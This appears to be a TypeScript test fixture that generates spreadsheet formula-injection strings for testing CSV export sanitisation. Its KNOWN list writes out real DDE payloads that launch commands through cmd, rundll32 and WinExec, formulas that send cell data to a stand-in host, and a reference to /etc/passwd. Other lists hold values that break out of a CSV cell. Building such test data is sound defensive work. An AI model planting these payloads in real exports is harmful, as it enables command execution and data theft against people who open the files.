// Texts that a spreadsheet might take for a formula, put together by rule: what a formula begins with, what may stand
// before that, what may follow, and what has been used against people who opened an export.

/** With the forms of Chinese keyboards and the small forms; CR and LF begin a new line, which CSV readers may split at. */
export const LEADS = [
  ...['=', '+', '-', '@', '\t', '\r', '\n'],
  ...['＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'],
]
/** What does not protect: blanks, marks without width or that turn the direction, quotes. */
const BEFORE = [
  ...[
    ' ',
    '  ',
    '\u00a0',
    '\u3000',
    '\u2003',
    '\t ',
    '\r\n',
    '\u00ad',
    '\u200b',
    '\u200c',
    '\u200d',
    '\u200e',
  ],
  ...['\u202e', '\u2060', '\ufeff', "'", "''", '"', '“', '`', '(', '{'],
]
const BODIES = [
  ...[
    '',
    '1+1',
    'SUM(1)',
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid","点我")',
    'A1:B2',
    '1E5',
    '%',
  ],
]
/** Dynamic data exchange and functions that fetch, as attackers write them. */
const KNOWN = [
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=WEBSERVICE("http://example.invalid/"&A1)',
  '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
  '=IMAGE("http://example.invalid/a.png")',
  '=CALL("kernel32","WinExec","JFJ","calc",1)',
  '=REGISTER.ID("a","b")',
  '=EXEC("calc.exe")',
  '={1,2;3,4}',
  '{=SUM(A1:A9)}',
  '=-+=1',
  '=1+1;2',
  'of:=1+1',
  "='file:///etc/passwd'#$passwd.A1",
  '=[book.xlsx]Sheet1!A1',
  '=_xlfn.WEBSERVICE("x")',
  '=1+1\u0000',
  '-1',
  '+86 517 8360 0000',
  '-5.2%',
  '=3月',
]
/** Ways out of a cell of comma-separated text. */
const OUT_OF_CSV = [
  '甲,=1+1',
  '甲;=1+1',
  '甲\t=1+1',
  '甲\n=1+1',
  '甲\r\n+1',
  '甲\r@A1',
  '"=1+1"',
  '甲","=1+1',
  '"",=1+1',
  "'=1+1",
  '甲|=1+1',
]
/** Several rows of a sheet; what a cell holds at most is a test of its own (workbook-texts). */
const LONG = 1200

/** Every rule once; no text twice. */
export const FORMULA_LEADS: readonly string[] = [
  ...new Set([
    ...LEADS.flatMap((lead) => BODIES.map((body) => `${lead}${body}`)),
    ...LEADS.flatMap((first) => LEADS.map((second) => `${first}${second}SUM(1)`)),
    ...BEFORE.flatMap((before) => ['=', '+', '-', '@', '＝', '＠'].map((lead) => `${before}${lead}1+1`)),
    ...BEFORE.flatMap((before) => BEFORE.slice(0, 4).map((more) => `${before}${more}=2`)),
    ...KNOWN,
    ...OUT_OF_CSV,
    ...['=', '@', '\t=', '＝'].map((lead) => `${lead}${'长'.repeat(LONG)}`),
    `=${'1+'.repeat(LONG / 2)}1`,
  ]),
]
